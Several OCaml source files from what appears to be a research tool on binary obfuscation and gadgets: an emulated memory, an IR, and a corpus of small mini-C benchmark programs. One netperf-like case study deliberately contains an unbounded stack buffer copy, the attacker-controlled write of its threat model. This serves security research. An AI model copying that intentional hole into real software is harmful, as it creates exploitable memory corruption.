    self-modifying and the simulated self-mod/JIT obfuscations rely on
    it. *)

exception Fault of string
(** Raised on access to an unmapped address. *)

type t

val create : unit -> t

val map : t -> string -> int64 -> int -> unit
(** [map t name base size] adds a zeroed region. *)

val map_bytes : t -> string -> int64 -> Bytes.t -> unit
(** Add a region initialized with a copy of the bytes. *)

val region_of_addr : t -> int64 -> string option
(** Name of the region covering the address. *)

val read8 : t -> int64 -> int
val write8 : t -> int64 -> int -> unit

val read64 : t -> int64 -> int64
(** Little-endian 8-byte read. *)

val write64 : t -> int64 -> int64 -> unit

val read_bytes : t -> int64 -> int -> Bytes.t
(** Snapshot [len] bytes (faults if any byte is unmapped). *)

val write_bytes : t -> int64 -> Bytes.t -> unit

val read_cstring : t -> int64 -> string
(** NUL-terminated string at the address. *)

val is_mapped : t -> int64 -> bool
