(* Flat emulated memory: a few contiguous regions (code, data, stack,
   scratch) with byte granularity.  Code is writable — real processes can
   be self-modifying and the simulated self-mod/JIT obfuscations rely on
   it. *)

exception Fault of string

type region = { r_name : string; r_base : int64; r_bytes : Bytes.t }

type t = { mutable regions : region list }

let create () = { regions = [] }

let map t name base size =
  t.regions <- { r_name = name; r_base = base; r_bytes = Bytes.make size '\000' } :: t.regions

let map_bytes t name base bytes =
  t.regions <- { r_name = name; r_base = base; r_bytes = Bytes.copy bytes } :: t.regions

let region_end r = Int64.add r.r_base (Int64.of_int (Bytes.length r.r_bytes))

let find t addr =
  List.find_opt (fun r -> addr >= r.r_base && addr < region_end r) t.regions

let region_of_addr t addr = Option.map (fun r -> r.r_name) (find t addr)

let read8 t addr =
  match find t addr with
  | Some r -> Bytes.get_uint8 r.r_bytes (Int64.to_int (Int64.sub addr r.r_base))
  | None -> raise (Fault (Printf.sprintf "read of unmapped address 0x%Lx" addr))

let write8 t addr v =
  match find t addr with
  | Some r -> Bytes.set_uint8 r.r_bytes (Int64.to_int (Int64.sub addr r.r_base)) (v land 0xff)
  | None -> raise (Fault (Printf.sprintf "write to unmapped address 0x%Lx" addr))

let read64 t addr =
  let rec go acc k =
    if k = 8 then acc
    else
      let b = Int64.of_int (read8 t (Int64.add addr (Int64.of_int k))) in
      go (Int64.logor acc (Int64.shift_left b (8 * k))) (k + 1)
  in
  go 0L 0

let write64 t addr v =
  for k = 0 to 7 do
    write8 t
      (Int64.add addr (Int64.of_int k))
      (Int64.to_int (Int64.logand (Int64.shift_right_logical v (8 * k)) 0xffL))
  done

(* Snapshot [len] bytes starting at [addr] (faults if any byte unmapped). *)
let read_bytes t addr len =
  let b = Bytes.create len in
  for k = 0 to len - 1 do
    Bytes.set_uint8 b k (read8 t (Int64.add addr (Int64.of_int k)))
  done;
  b

let write_bytes t addr bytes =
  Bytes.iteri (fun k c -> write8 t (Int64.add addr (Int64.of_int k)) (Char.code c)) bytes

let read_cstring t addr =
  let buf = Buffer.create 16 in
  let rec loop a =
    let b = read8 t a in
    if b = 0 then Buffer.contents buf
    else begin
      Buffer.add_char buf (Char.chr b);
      loop (Int64.add a 1L)
    end
  in
  loop addr

let is_mapped t addr = find t addr <> None
