lib/emu/memory.mli: Bytes
