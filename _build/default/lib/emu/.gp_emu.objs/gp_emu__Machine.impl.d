lib/emu/machine.ml: Array Buffer Bytes Decode Gp_util Gp_x86 Insn Int64 Memory Printf Reg String
