lib/emu/machine.mli: Buffer Gp_util Gp_x86 Memory
