lib/emu/memory.ml: Buffer Bytes Char Int64 List Option Printf
