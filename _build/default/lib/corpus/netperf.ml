(* netperf-like case-study program (paper §VI-C, Fig. 7).

   netperf 2.6.0's client crashes in [break_args]: it copies the '-a'
   option argument into fixed-size stack buffers without length checking.
   This program reproduces that shape: a network-bandwidth-test "client"
   that parses a length-prefixed option block from its input area and
   copies it into a 4-word stack buffer with no bounds check — the
   attacker-controlled write-to-stack of the threat model (§III-A).

   The input area stands in for argv: the harness writes the attack
   payload at [input_area] before the run, exactly as the paper passes
   the payload via the '-a' command-line option.

   The copy is word-granular and length-prefixed (input[0] = word count),
   so payloads may contain zero words — the equivalent of netperf parsing
   a binary test-parameter block. *)

let input_area = 0x700400L

let entry : Programs.entry = {
  name = "netperf";
  description = "network test client with a break_args stack overflow";
  source = {|
int remote_host[8];
int local_host[8];
int test_duration = 10;
int send_size = 1024;
int banner = "netperf-like: TCP STREAM test";

/* Fig. 7: copies from s into arg1/arg2 without length checking.
   s points at a length-prefixed block: s[0] = number of words. */
int break_args(int s) {
  int arg1[4];
  int arg2[4];
  int n = *s;
  int i;
  for (i = 0; i < n; i = i + 1) {
    /* overflow: i is bounded only by the attacker's length field */
    arg1[i] = *(s + 8 + i * 8);
  }
  arg2[0] = arg1[0];
  return n;
}

int checksum(int seed) {
  int acc = seed;
  int i;
  for (i = 0; i < 8; i = i + 1) {
    acc = acc * 31 + remote_host[i] + local_host[i];
  }
  return acc;
}

int simulate_transfer(int bytes) {
  int sent = 0;
  int packets = 0;
  while (sent < bytes) {
    sent = sent + send_size;
    packets = packets + 1;
    if (packets > 64) { return packets; }
  }
  return packets;
}

int main() {
  int i;
  for (i = 0; i < 8; i = i + 1) {
    remote_host[i] = (i * 77 + 1) & 255;
    local_host[i] = (i * 31 + 7) & 255;
  }
  int packets = simulate_transfer(test_duration * send_size);
  int chk = checksum(packets);
  /* parse command-line options: '-a' argument lives at the input area */
  int optarg = 0x700400;
  break_args(optarg);
  print(chk);
  return chk & 127;
}
|};
}
