(** netperf-like case-study program (paper §VI-C, Fig. 7): a network
    bandwidth-test "client" whose [break_args] copies a length-prefixed
    option block into a 4-word stack buffer with no bounds check — the
    attacker-controlled stack write of the threat model. *)

val input_area : int64
(** Where the harness writes the option block ("the '-a' argument"):
    word 0 is the word count, the block follows. *)

val entry : Programs.entry
