lib/corpus/programs.mli:
