lib/corpus/spec.ml: Programs
