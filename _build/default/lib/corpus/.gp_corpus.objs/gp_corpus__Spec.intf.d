lib/corpus/spec.mli: Programs
