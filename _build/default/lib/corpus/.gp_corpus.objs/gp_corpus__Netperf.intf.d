lib/corpus/netperf.mli: Programs
