lib/corpus/netperf.ml: Programs
