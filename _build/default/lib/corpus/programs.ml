(* The obfuscation benchmark corpus (substitute for Banescu et al. [53];
   DESIGN.md §2): sixteen small C programs with diverse functionality and
   control-flow shape — sorting, searching, numeric kernels, bit tricks,
   string processing, a tiny stack interpreter.  Every program prints a
   deterministic checksum, which the differential tests use to confirm
   that obfuscation preserved semantics. *)

type entry = {
  name : string;
  description : string;
  source : string;
}

let bubble_sort = {
  name = "bubble_sort";
  description = "bubble sort over a pseudo-random array";
  source = {|
int main() {
  int a[16];
  int i; int j;
  for (i = 0; i < 16; i = i + 1) { a[i] = (1103515245 * i + 12345) & 1023; }
  for (i = 0; i < 16; i = i + 1) {
    for (j = 0; j + 1 < 16 - i; j = j + 1) {
      if (a[j] > a[j + 1]) { int t = a[j]; a[j] = a[j + 1]; a[j + 1] = t; }
    }
  }
  int chk = 0;
  for (i = 0; i < 16; i = i + 1) { chk = chk * 31 + a[i]; }
  print(chk);
  return chk & 127;
}
|};
}

let binary_search = {
  name = "binary_search";
  description = "binary search over a sorted table";
  source = {|
int table[16] = {2, 3, 5, 7, 11, 13, 17, 19, 23, 29, 31, 37, 41, 43, 47, 53};
int search(int x) {
  int lo = 0;
  int hi = 15;
  while (lo <= hi) {
    int mid = (lo + hi) >> 1;
    if (table[mid] == x) { return mid; }
    if (table[mid] < x) { lo = mid + 1; } else { hi = mid - 1; }
  }
  return 0 - 1;
}
int main() {
  int found = 0;
  int i;
  for (i = 0; i < 60; i = i + 1) {
    if (search(i) >= 0) { found = found + 1; }
  }
  print(found);
  return found;
}
|};
}

let matrix_mult = {
  name = "matrix_mult";
  description = "4x4 integer matrix multiplication";
  source = {|
int main() {
  int a[16]; int b[16]; int c[16];
  int i; int j; int k;
  for (i = 0; i < 16; i = i + 1) { a[i] = i + 1; b[i] = 16 - i; c[i] = 0; }
  for (i = 0; i < 4; i = i + 1) {
    for (j = 0; j < 4; j = j + 1) {
      for (k = 0; k < 4; k = k + 1) {
        c[i * 4 + j] = c[i * 4 + j] + a[i * 4 + k] * b[k * 4 + j];
      }
    }
  }
  int chk = 0;
  for (i = 0; i < 16; i = i + 1) { chk = chk ^ (c[i] * (i + 1)); }
  print(chk);
  return chk & 127;
}
|};
}

let crc_check = {
  name = "crc_check";
  description = "CRC-style rolling checksum of a message";
  source = {|
int msg = "the quick brown fox jumps over the lazy dog";
int main() {
  int crc = 0xffff;
  int i;
  for (i = 0; i < 44; i = i + 1) {
    int byte = *(msg + i) & 255;
    crc = crc ^ byte;
    int k;
    for (k = 0; k < 8; k = k + 1) {
      if (crc & 1) { crc = (crc >> 1) ^ 0xa001; } else { crc = crc >> 1; }
      crc = crc & 0xffff;
    }
  }
  print(crc);
  return crc & 127;
}
|};
}

let rc4_stream = {
  name = "rc4_stream";
  description = "RC4-like key-scheduling and stream generation";
  source = {|
int main() {
  int s[64];
  int i;
  for (i = 0; i < 64; i = i + 1) { s[i] = i; }
  int j = 0;
  for (i = 0; i < 64; i = i + 1) {
    j = (j + s[i] + (i * 7 + 3)) & 63;
    int t = s[i]; s[i] = s[j]; s[j] = t;
  }
  int out = 0;
  int x = 0;
  j = 0;
  for (i = 0; i < 32; i = i + 1) {
    x = (x + 1) & 63;
    j = (j + s[x]) & 63;
    int t = s[x]; s[x] = s[j]; s[j] = t;
    out = (out * 3) ^ s[(s[x] + s[j]) & 63];
  }
  print(out);
  return out & 127;
}
|};
}

let quicksort = {
  name = "quicksort";
  description = "recursive quicksort";
  source = {|
int a[32];
int sort(int lo, int hi) {
  if (lo >= hi) { return 0; }
  int pivot = a[hi];
  int i = lo;
  int k;
  for (k = lo; k < hi; k = k + 1) {
    if (a[k] < pivot) {
      int t = a[i]; a[i] = a[k]; a[k] = t;
      i = i + 1;
    }
  }
  int t = a[i]; a[i] = a[hi]; a[hi] = t;
  sort(lo, i - 1);
  sort(i + 1, hi);
  return 0;
}
int main() {
  int i;
  for (i = 0; i < 32; i = i + 1) { a[i] = (i * 2654435761) & 4095; }
  sort(0, 31);
  int chk = 0;
  for (i = 0; i < 32; i = i + 1) { chk = chk * 17 + a[i]; }
  print(chk);
  return chk & 127;
}
|};
}

let fibonacci = {
  name = "fibonacci";
  description = "naive recursive Fibonacci";
  source = {|
int fib(int n) {
  if (n < 2) { return n; }
  return fib(n - 1) + fib(n - 2);
}
int main() {
  int s = 0;
  int i;
  for (i = 0; i < 12; i = i + 1) { s = s + fib(i); }
  print(s);
  return s & 127;
}
|};
}

let gcd_lcm = {
  name = "gcd_lcm";
  description = "subtraction-based gcd over number pairs";
  source = {|
int gcd(int a, int b) {
  while (a != b) {
    if (a > b) { a = a - b; } else { b = b - a; }
  }
  return a;
}
int main() {
  int acc = 0;
  int i;
  for (i = 1; i < 20; i = i + 1) {
    acc = acc + gcd(i * 6, i * 4 + 8);
  }
  print(acc);
  return acc & 127;
}
|};
}

let string_reverse = {
  name = "string_reverse";
  description = "in-place word reversal and palindrome check";
  source = {|
int main() {
  int buf[24];
  int i;
  for (i = 0; i < 24; i = i + 1) { buf[i] = (i * 37 + 5) & 255; }
  int lo = 0;
  int hi = 23;
  while (lo < hi) {
    int t = buf[lo]; buf[lo] = buf[hi]; buf[hi] = t;
    lo = lo + 1;
    hi = hi - 1;
  }
  int chk = 0;
  for (i = 0; i < 24; i = i + 1) { chk = chk * 13 + buf[i]; }
  print(chk);
  return chk & 127;
}
|};
}

let prime_sieve = {
  name = "prime_sieve";
  description = "sieve of Eratosthenes";
  source = {|
int main() {
  int sieve[128];
  int i;
  for (i = 0; i < 128; i = i + 1) { sieve[i] = 1; }
  sieve[0] = 0;
  sieve[1] = 0;
  for (i = 2; i < 128; i = i + 1) {
    if (sieve[i]) {
      int k;
      for (k = i + i; k < 128; k = k + i) { sieve[k] = 0; }
    }
  }
  int count = 0;
  for (i = 0; i < 128; i = i + 1) { count = count + sieve[i]; }
  print(count);
  return count;
}
|};
}

let bitcount = {
  name = "bitcount";
  description = "population count via bit tricks";
  source = {|
int popcount(int x) {
  int c = 0;
  while (x != 0) {
    x = x & (x - 1);
    c = c + 1;
  }
  return c;
}
int main() {
  int acc = 0;
  int i;
  int x = 0x12345;
  for (i = 0; i < 40; i = i + 1) {
    x = x * 6364136223846793005 + 1442695040888963407;
    acc = acc + popcount(x & 0xffffffff);
  }
  print(acc);
  return acc & 127;
}
|};
}

let stack_machine = {
  name = "stack_machine";
  description = "tiny stack-machine interpreter over a fixed program";
  source = {|
int code[24] = {1, 6, 1, 7, 2, 1, 5, 3, 1, 3, 2, 1, 2, 4, 1, 100, 3, 0, 0, 0, 0, 0, 0, 0};
int main() {
  int stack[16];
  int sp = 0;
  int pc = 0;
  int running = 1;
  while (running) {
    int op = code[pc];
    if (op == 0) { running = 0; }
    if (op == 1) { stack[sp] = code[pc + 1]; sp = sp + 1; pc = pc + 2; }
    if (op == 2) {
      int b = stack[sp - 1]; int a = stack[sp - 2];
      stack[sp - 2] = a + b; sp = sp - 1; pc = pc + 1;
    }
    if (op == 3) {
      int b = stack[sp - 1]; int a = stack[sp - 2];
      stack[sp - 2] = a * b; sp = sp - 1; pc = pc + 1;
    }
    if (op == 4) {
      int b = stack[sp - 1]; int a = stack[sp - 2];
      stack[sp - 2] = a - b; sp = sp - 1; pc = pc + 1;
    }
    if (op > 4) { running = 0; }
  }
  int result = stack[0];
  print(result);
  return result & 127;
}
|};
}


let hash_table = {
  name = "hash_table";
  description = "open-addressing hash table insert/lookup";
  source = {|
int keys[32];
int vals[32];
int used[32];
int insert(int k, int v) {
  int h = (k * 2654435761) & 31;
  int probes = 0;
  while (used[h] && probes < 32) {
    if (keys[h] == k) { vals[h] = v; return h; }
    h = (h + 1) & 31;
    probes = probes + 1;
  }
  used[h] = 1;
  keys[h] = k;
  vals[h] = v;
  return h;
}
int lookup(int k) {
  int h = (k * 2654435761) & 31;
  int probes = 0;
  while (used[h] && probes < 32) {
    if (keys[h] == k) { return vals[h]; }
    h = (h + 1) & 31;
    probes = probes + 1;
  }
  return 0 - 1;
}
int main() {
  int i;
  for (i = 0; i < 20; i = i + 1) { insert(i * 7 + 1, i * i); }
  int acc = 0;
  for (i = 0; i < 20; i = i + 1) { acc = acc + lookup(i * 7 + 1); }
  acc = acc + lookup(9999);
  print(acc);
  return acc & 127;
}
|};
}

let kmp_match = {
  name = "kmp_match";
  description = "substring search with a failure table";
  source = {|
int text = "abababcababcabababcc";
int pat = "ababc";
int fail[8];
int main() {
  int m = 5;
  /* build the failure function */
  fail[0] = 0;
  int k = 0;
  int q;
  for (q = 1; q < m; q = q + 1) {
    while (k > 0 && (*(pat + k) & 255) != (*(pat + q) & 255)) { k = fail[k - 1]; }
    if ((*(pat + k) & 255) == (*(pat + q) & 255)) { k = k + 1; }
    fail[q] = k;
  }
  /* scan the text */
  int matches = 0;
  int n = 20;
  k = 0;
  int i;
  for (i = 0; i < n; i = i + 1) {
    while (k > 0 && (*(pat + k) & 255) != (*(text + i) & 255)) { k = fail[k - 1]; }
    if ((*(pat + k) & 255) == (*(text + i) & 255)) { k = k + 1; }
    if (k == m) { matches = matches + 1; k = fail[k - 1]; }
  }
  print(matches);
  return matches;
}
|};
}

let tea_cipher = {
  name = "tea_cipher";
  description = "TEA-like block cipher rounds";
  source = {|
int main() {
  int v0 = 0x12345678;
  int v1 = 0x9abcdef0;
  int k0 = 0xa56babcd; int k1 = 0xf000a5a5;
  int k2 = 0x00112233; int k3 = 0x44556677;
  int sum = 0;
  int round;
  for (round = 0; round < 32; round = round + 1) {
    sum = (sum + 0x9e3779b9) & 0xffffffff;
    v0 = (v0 + (((v1 << 4) + k0) ^ (v1 + sum) ^ ((v1 >> 5) + k1))) & 0xffffffff;
    v1 = (v1 + (((v0 << 4) + k2) ^ (v0 + sum) ^ ((v0 >> 5) + k3))) & 0xffffffff;
  }
  int out = v0 ^ v1;
  print(out);
  return out & 127;
}
|};
}

let dijkstra_lite = {
  name = "dijkstra_lite";
  description = "single-source shortest paths on a small dense graph";
  source = {|
int dist[10];
int visited[10];
int edge[100];
int main() {
  int n = 10;
  int i; int j;
  int x = 5;
  for (i = 0; i < 100; i = i + 1) {
    x = x * 1103515245 + 12345;
    edge[i] = ((x >> 16) & 63) + 1;
  }
  for (i = 0; i < n; i = i + 1) { dist[i] = 100000; visited[i] = 0; }
  dist[0] = 0;
  int round;
  for (round = 0; round < n; round = round + 1) {
    /* pick the nearest unvisited node */
    int best = 0 - 1;
    int bestd = 100001;
    for (i = 0; i < n; i = i + 1) {
      if (!visited[i] && dist[i] < bestd) { best = i; bestd = dist[i]; }
    }
    if (best < 0) { break; }
    visited[best] = 1;
    for (j = 0; j < n; j = j + 1) {
      int nd = dist[best] + edge[best * 10 + j];
      if (nd < dist[j]) { dist[j] = nd; }
    }
  }
  int chk = 0;
  for (i = 0; i < n; i = i + 1) { chk = chk * 7 + dist[i]; }
  print(chk);
  return chk & 127;
}
|};
}

let all : entry list =
  [ bubble_sort; binary_search; matrix_mult; crc_check; rc4_stream; quicksort;
    fibonacci; gcd_lcm; string_reverse; prime_sieve; bitcount; stack_machine;
    hash_table; kmp_match; tea_cipher; dijkstra_lite ]

let find name =
  match List.find_opt (fun e -> e.name = name) all with
  | Some e -> e
  | None -> invalid_arg ("Corpus.Programs.find: unknown program " ^ name)
