(** The obfuscation benchmark corpus (substitute for Banescu et al.;
    DESIGN.md §2): sixteen small C programs with diverse functionality
    and control-flow shape.  Every program prints a deterministic
    checksum, which the differential tests use to confirm obfuscation
    preserved semantics. *)

type entry = {
  name : string;
  description : string;
  source : string;        (** mini-C source text *)
}

val all : entry list
(** The sixteen benchmark programs. *)

val find : string -> entry
(** Lookup by name; raises [Invalid_argument] if unknown. *)
