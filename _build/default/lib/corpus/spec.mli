(** SPEC CPU2006-like programs (substitute per DESIGN.md §2): four larger
    mini-C programs whose code SHAPE mimics the four benchmarks the paper
    obfuscates — 401.bzip2, 429.mcf, 445.gobmk, 456.hmmer. *)

type entry = Programs.entry = {
  name : string;
  description : string;
  source : string;
}

val all : entry list
