(* SPEC CPU2006-like programs (substitute per DESIGN.md §2): four larger
   mini-C programs whose code SHAPE mimics the four benchmarks the paper
   obfuscates — compression loops (401.bzip2), network-simplex pointer
   chasing (429.mcf), board evaluation tables (445.gobmk), and profile-HMM
   dynamic programming (456.hmmer).  Code shape (CFG size, table code,
   loop nests) is what drives gadget counts, which is these programs'
   role in the experiment. *)

type entry = Programs.entry = {
  name : string;
  description : string;
  source : string;
}

let spec_bzip2 = {
  name = "401.bzip2";
  description = "RLE + move-to-front compression loop over a synthetic buffer";
  source = {|
int buf[256];
int mtf[64];
int out[300];
int rle(int n) {
  int w = 0;
  int i = 0;
  while (i < n) {
    int v = buf[i];
    int run = 1;
    while (i + run < n && buf[i + run] == v && run < 255) { run = run + 1; }
    if (run > 3) {
      out[w] = 0 - run;
      out[w + 1] = v;
      w = w + 2;
    } else {
      int k;
      for (k = 0; k < run; k = k + 1) { out[w] = v; w = w + 1; }
    }
    i = i + run;
  }
  return w;
}
int move_to_front(int n) {
  int i;
  for (i = 0; i < 64; i = i + 1) { mtf[i] = i; }
  int acc = 0;
  for (i = 0; i < n; i = i + 1) {
    int v = out[i] & 63;
    int pos = 0;
    while (mtf[pos] != v) { pos = pos + 1; }
    int k;
    for (k = pos; k > 0; k = k - 1) { mtf[k] = mtf[k - 1]; }
    mtf[0] = v;
    acc = acc + pos;
  }
  return acc;
}
int main() {
  int i;
  int x = 7;
  for (i = 0; i < 256; i = i + 1) {
    x = x * 1103515245 + 12345;
    if ((x >> 8) & 3) { buf[i] = (x >> 16) & 15; } else { buf[i] = buf[(i + 255) & 255]; }
  }
  int w = rle(256);
  int acc = move_to_front(w);
  print(acc + w);
  return (acc + w) & 127;
}
|};
}

let spec_mcf = {
  name = "429.mcf";
  description = "network-simplex-like arc scanning with pointer chasing";
  source = {|
int node_potential[32];
int arc_tail[96];
int arc_head[96];
int arc_cost[96];
int arc_flow[96];
int build_network() {
  int i;
  for (i = 0; i < 32; i = i + 1) { node_potential[i] = (i * 67 + 13) & 255; }
  for (i = 0; i < 96; i = i + 1) {
    arc_tail[i] = (i * 7) & 31;
    arc_head[i] = (i * 13 + 5) & 31;
    arc_cost[i] = ((i * 2654435761) >> 4) & 511;
    arc_flow[i] = 0;
  }
  return 0;
}
int reduced_cost(int arc) {
  return arc_cost[arc] - node_potential[arc_tail[arc]] + node_potential[arc_head[arc]];
}
int price_out() {
  int improvements = 0;
  int arc;
  for (arc = 0; arc < 96; arc = arc + 1) {
    int rc = reduced_cost(arc);
    if (rc < 0) {
      arc_flow[arc] = arc_flow[arc] + 1;
      node_potential[arc_tail[arc]] = node_potential[arc_tail[arc]] + (0 - rc >> 3);
      improvements = improvements + 1;
    }
  }
  return improvements;
}
int main() {
  build_network();
  int total = 0;
  int round;
  for (round = 0; round < 8; round = round + 1) {
    total = total + price_out();
  }
  int chk = total;
  int i;
  for (i = 0; i < 96; i = i + 1) { chk = chk + arc_flow[i] * i; }
  print(chk);
  return chk & 127;
}
|};
}

let spec_gobmk = {
  name = "445.gobmk";
  description = "Go-board influence evaluation with pattern tables";
  source = {|
int board[49];
int influence[49];
int weight[9] = {0, 40, 20, 10, 5, 2, 1, 0, 0};
int dist(int a, int b) {
  int ra = a; int ca = 0;
  while (ra >= 7) { ra = ra - 7; ca = ca + 1; }
  int rb = b; int cb = 0;
  while (rb >= 7) { rb = rb - 7; cb = cb + 1; }
  int dr = ra - rb;
  if (dr < 0) { dr = 0 - dr; }
  int dc = ca - cb;
  if (dc < 0) { dc = 0 - dc; }
  if (dr > dc) { return dr; }
  return dc;
}
int evaluate() {
  int score = 0;
  int p;
  for (p = 0; p < 49; p = p + 1) {
    influence[p] = 0;
    int q;
    for (q = 0; q < 49; q = q + 1) {
      if (board[q] != 0) {
        int d = dist(p, q);
        if (d < 8) {
          influence[p] = influence[p] + board[q] * weight[d];
        }
      }
    }
    if (influence[p] > 0) { score = score + 1; }
    if (influence[p] < 0) { score = score - 1; }
  }
  return score;
}
int main() {
  int i;
  int x = 11;
  for (i = 0; i < 49; i = i + 1) {
    x = x * 6364136223846793005 + 1442695040888963407;
    int v = (x >> 33) & 7;
    if (v == 1) { board[i] = 1; }
    else { if (v == 2) { board[i] = 0 - 1; } else { board[i] = 0; } }
  }
  int score = evaluate();
  print(score);
  return score & 127;
}
|};
}

let spec_hmmer = {
  name = "456.hmmer";
  description = "profile-HMM Viterbi dynamic programming";
  source = {|
int match_score[160];
int insert_score[160];
int viterbi_row[20];
int prev_row[20];
int main() {
  int i;
  int x = 3;
  for (i = 0; i < 160; i = i + 1) {
    x = x * 1103515245 + 12345;
    match_score[i] = (x >> 9) & 63;
    insert_score[i] = (x >> 15) & 31;
  }
  int j;
  for (j = 0; j < 20; j = j + 1) { prev_row[j] = 0; }
  int seq;
  int best = 0;
  for (seq = 0; seq < 8; seq = seq + 1) {
    for (j = 1; j < 20; j = j + 1) {
      int m = prev_row[j - 1] + match_score[(seq * 20 + j) & 127];
      int ins = prev_row[j] + insert_score[(seq * 20 + j) & 127];
      int del = viterbi_row[j - 1] - 11;
      int v = m;
      if (ins > v) { v = ins; }
      if (del > v) { v = del; }
      viterbi_row[j] = v;
      if (v > best) { best = v; }
    }
    for (j = 0; j < 20; j = j + 1) { prev_row[j] = viterbi_row[j]; }
  }
  print(best);
  return best & 127;
}
|};
}

let all = [ spec_bzip2; spec_mcf; spec_gobmk; spec_hmmer ]
