(* Three-address IR with an explicit CFG.

   Sits between the mini-C front end and the x86 back end; it is also the
   level at which the Obfuscator-LLVM-style passes operate (mirroring
   their position in the real pipeline).  [Switch] exists so control-flow
   flattening and the virtualization interpreter can lower to jump tables
   — which is what produces the indirect-jump gadgets the paper observes
   in obfuscated binaries. *)

type temp = int

type operand =
  | T of temp       (* virtual register *)
  | I of int64      (* immediate *)
  | G of string     (* address of a global symbol *)

type binop = Add | Sub | Mul | And | Or | Xor | Shl | Shr | Sar

type relop = Eq | Ne | Lt | Le | Gt | Ge   (* signed *)

type instr =
  | Bin of binop * temp * operand * operand
  | Mov of temp * operand
  | Load of temp * operand * int            (* dst = mem[addr + off] *)
  | Store of operand * int * operand        (* mem[addr + off] = src *)
  | Cmp of relop * temp * operand * operand (* dst = (a rel b) ? 1 : 0 *)
  | CallI of temp option * string * operand list
  | CallPtr of temp option * operand * operand list  (* indirect call *)
  | SyscallI of temp option * operand list  (* rax, then up to 3 args *)
  | AddrLocal of temp * int                 (* dst = address of frame slot *)

type label = string

type terminator =
  | Jmp of label
  | Br of operand * label * label           (* nonzero -> first *)
  | Switch of operand * label array         (* jump table, index must be in range *)
  | Ret of operand option

type block = {
  b_label : label;
  mutable b_instrs : instr list;
  mutable b_term : terminator;
}

type func = {
  f_name : string;
  mutable f_params : temp list;
  mutable f_blocks : block list;      (* head is the entry block *)
  mutable f_next_temp : int;
  mutable f_frame_slots : int;        (* 8-byte alloca slots *)
  mutable f_next_label : int;
}

type data = { d_name : string; d_bytes : Bytes.t }

type program = {
  mutable p_funcs : func list;
  mutable p_data : data list;
}

(* ----- construction helpers ----- *)

let fresh_temp f =
  let t = f.f_next_temp in
  f.f_next_temp <- t + 1;
  t

let fresh_label f prefix =
  let n = f.f_next_label in
  f.f_next_label <- n + 1;
  Printf.sprintf "%s.%s%d" f.f_name prefix n

(* Reserve [n] 8-byte frame slots; returns the index of the first. *)
let alloc_slots f n =
  let s = f.f_frame_slots in
  f.f_frame_slots <- s + n;
  s

let find_block f label =
  match List.find_opt (fun b -> b.b_label = label) f.f_blocks with
  | Some b -> b
  | None -> invalid_arg (Printf.sprintf "Ir.find_block: no block %s in %s" label f.f_name)

let add_data p name bytes =
  p.p_data <- p.p_data @ [ { d_name = name; d_bytes = bytes } ]

let successors = function
  | Jmp l -> [ l ]
  | Br (_, l1, l2) -> [ l1; l2 ]
  | Switch (_, ls) -> Array.to_list ls
  | Ret _ -> []

(* ----- printing (for tests and debugging) ----- *)

let string_of_operand = function
  | T t -> Printf.sprintf "t%d" t
  | I i -> Int64.to_string i
  | G g -> "&" ^ g

let string_of_binop = function
  | Add -> "add" | Sub -> "sub" | Mul -> "mul" | And -> "and" | Or -> "or"
  | Xor -> "xor" | Shl -> "shl" | Shr -> "shr" | Sar -> "sar"

let string_of_relop = function
  | Eq -> "==" | Ne -> "!=" | Lt -> "<" | Le -> "<=" | Gt -> ">" | Ge -> ">="

let string_of_instr i =
  let sop = string_of_operand in
  match i with
  | Bin (op, d, a, b) ->
    Printf.sprintf "t%d = %s %s, %s" d (string_of_binop op) (sop a) (sop b)
  | Mov (d, s) -> Printf.sprintf "t%d = %s" d (sop s)
  | Load (d, a, off) -> Printf.sprintf "t%d = load [%s + %d]" d (sop a) off
  | Store (a, off, s) -> Printf.sprintf "store [%s + %d] = %s" (sop a) off (sop s)
  | Cmp (r, d, a, b) ->
    Printf.sprintf "t%d = %s %s %s" d (sop a) (string_of_relop r) (sop b)
  | CallI (d, f, args) ->
    Printf.sprintf "%s%s(%s)"
      (match d with Some t -> Printf.sprintf "t%d = " t | None -> "")
      f
      (String.concat ", " (List.map sop args))
  | CallPtr (d, target, args) ->
    Printf.sprintf "%s(*%s)(%s)"
      (match d with Some t -> Printf.sprintf "t%d = " t | None -> "")
      (sop target)
      (String.concat ", " (List.map sop args))
  | SyscallI (d, args) ->
    Printf.sprintf "%ssyscall(%s)"
      (match d with Some t -> Printf.sprintf "t%d = " t | None -> "")
      (String.concat ", " (List.map sop args))
  | AddrLocal (d, slot) -> Printf.sprintf "t%d = &slot[%d]" d slot

let string_of_terminator = function
  | Jmp l -> "jmp " ^ l
  | Br (c, l1, l2) -> Printf.sprintf "br %s, %s, %s" (string_of_operand c) l1 l2
  | Switch (c, ls) ->
    Printf.sprintf "switch %s [%s]" (string_of_operand c)
      (String.concat "; " (Array.to_list ls))
  | Ret None -> "ret"
  | Ret (Some v) -> "ret " ^ string_of_operand v

let string_of_func f =
  let buf = Buffer.create 256 in
  Buffer.add_string buf
    (Printf.sprintf "func %s(%s) slots=%d\n" f.f_name
       (String.concat ", " (List.map (Printf.sprintf "t%d") f.f_params))
       f.f_frame_slots);
  List.iter
    (fun b ->
      Buffer.add_string buf (b.b_label ^ ":\n");
      List.iter
        (fun i -> Buffer.add_string buf ("  " ^ string_of_instr i ^ "\n"))
        b.b_instrs;
      Buffer.add_string buf ("  " ^ string_of_terminator b.b_term ^ "\n"))
    f.f_blocks;
  Buffer.contents buf

let string_of_program p =
  String.concat "\n" (List.map string_of_func p.p_funcs)

(* Count of instructions across a function, terminators included. *)
let func_size f =
  List.fold_left (fun acc b -> acc + List.length b.b_instrs + 1) 0 f.f_blocks

let program_size p = List.fold_left (fun acc f -> acc + func_size f) 0 p.p_funcs

(* Deep copy, so obfuscation passes can mutate freely without destroying
   the caller's IR (experiments compile the same program many ways). *)
let clone_block b = { b with b_instrs = b.b_instrs }

let clone_func f =
  { f with f_blocks = List.map clone_block f.f_blocks }

let clone_program p =
  { p_funcs = List.map clone_func p.p_funcs;
    p_data = List.map (fun d -> { d with d_bytes = Bytes.copy d.d_bytes }) p.p_data }
