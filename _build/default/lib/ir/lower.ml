(* Lowering mini-C AST to IR.

   Storage policy: scalars live in virtual registers unless their address
   is taken; arrays and address-taken scalars get frame slots.  Short-
   circuit &&/|| and comparisons lower to explicit control flow, as an
   unoptimizing C compiler would emit. *)

exception Lower_error of string

let fail fmt = Printf.ksprintf (fun m -> raise (Lower_error m)) fmt

type binding =
  | Btemp of Ir.temp
  | Bslot of int               (* address-taken scalar: frame slot index *)
  | Barray of int * int        (* frame slot index, element count *)
  | Bglobal_scalar
